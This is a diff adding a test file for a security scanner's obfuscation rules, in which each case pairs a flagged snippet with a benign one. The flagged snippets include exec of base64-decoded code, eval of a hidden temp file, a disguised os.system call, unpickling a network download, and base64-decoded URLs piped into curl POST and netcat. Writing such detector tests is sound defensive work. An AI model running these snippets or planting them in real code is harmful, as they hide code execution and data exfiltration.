@@ -1,0 +1,46 @@
+import { describeRuleCases, js, py, sh } from './rule-cases.helper.js';
+
+describeRuleCases('obfuscation', [
+  {
+    id: 'SG-OBFUSC-001',
+    positive: py('exec(__import__("base64").b64decode(b"cHJpbnQoMSk="))'),
+    negative: py('raw = base64.b64decode(blob)\nopen("out.bin", "wb").write(raw)'),
+  },
+  {
+    id: 'SG-OBFUSC-002',
+    positive: py('eval(compile(open("/tmp/.cache").read(), "<x>", "exec"))'),
+    negative: py('cfg = json.load(open("config.json"))'),
+  },
+  {
+    id: 'SG-OBFUSC-003',
+    positive: py('getattr(__import__("o"+"s"), "system")("id")'),
+    negative: py('import importlib\nmod = importlib.import_module("json")'),
+  },
+  {
+    id: 'SG-OBFUSC-004',
+    positive: js('const s = String.fromCharCode(99,117,114,108,32,104,116,116,112)'),
+    negative: js('const s = String.fromCharCode(65)'),
+  },
+  {
+    id: 'SG-OBFUSC-005',
+    positive: py('obj = pickle.loads(requests.get(url).content)'),
+    negative: py('obj = json.loads(text)'),
+  },
+  {
+    id: 'SG-OBFUSC-006',
+    positive: sh('echo aHR0cHM6Ly9leGFtcGxlLm5ldC9j | base64 -d | xargs curl -X POST'),
+    negative: sh('base64 -d logo.b64 > logo.png'),
+  },
+  {
+    id: 'SG-OBFUSC-007',
+    positive: sh('nc -l -p 9000 | base64 -d > /tmp/.data'),
+    negative: sh('nc -zv host.example.net 80'),
+  },
+  {
+    id: 'SG-OBFUSC-008',
+    positive: py('url = base64.b64decode("aHR0cHM6Ly9leGFtcGxlLm5ldC9jb2xsZWN0").decode()'),
+    negative: py(
+      'logo = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="',
+    ),
+  },
+]);
